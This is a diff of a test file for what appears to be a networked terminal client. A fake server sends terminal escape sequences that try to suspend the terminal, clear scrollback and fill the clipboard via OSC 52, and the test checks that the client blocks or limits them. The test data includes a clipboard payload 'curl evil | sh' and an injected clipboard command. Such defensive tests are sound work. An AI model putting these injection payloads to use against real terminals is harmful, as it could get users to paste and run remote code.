@@ -1,5 +1,6 @@
 """A table that is none: it speaks the wire's language, and tries what no table may do to a terminal."""
 import os
+import re
 import random
 import select
 import socket
@@ -38,16 +39,25 @@ class FakeTable:
 
 
 def stops_nobody(table):
-    """Only a key of theirs lets a table suspend people's terminal, and only once."""
+    """Only a key of theirs lets a table suspend people's terminal or fill its clipboard, and only once."""
     terminal, connection = table.guest()
     connection.sendall(frame(WELCOME, text("test")) + picture(SUSPEND | REDRAW | RING, "IT IS SHOWN", copy="curl evil | sh"))
     terminal.wait_for("IT IS SHOWN")
     connection.sendall(picture(SUSPEND, "AND AGAIN IT"))
     terminal.wait_for("AND AGAIN IT")
     check(terminal.state() != "T", "a table has stopped somebody's terminal")
+    terminal.send("y")
+    terminal.pump(0.3)
+    connection.sendall(picture(0, "COPIED", copy="one line"))
+    terminal.wait_for("COPIED")
+    connection.sendall(picture(0, "NO MORE", copy="another"))
+    terminal.wait_for("NO MORE")
+    copied = re.findall(rb"\x1b\]52;c;([^\x07]*)\x07", terminal.bytes)
+    check(copied == [b"b25lIGxpbmU="], f"copied: {copied}")
+    before = len(terminal.bytes)
     connection.sendall(frame(GOODBYE, text("The end.\x1b[3J\x1b]52;c;bHM=\x07") + b"\0"))
     check(terminal.wait_end()[0] == 0 and b"The end." in terminal.bytes, f"{terminal.bytes[-200:]}")
-    check(b"\x1b]" not in terminal.bytes and b"\x1b[3J" not in terminal.bytes, "its words are no words")
+    check(b"\x1b]" not in terminal.bytes[before:] and b"\x1b[3J" not in terminal.bytes, "its words are no words")
 
 
 def keeps_nothing_odd(table):
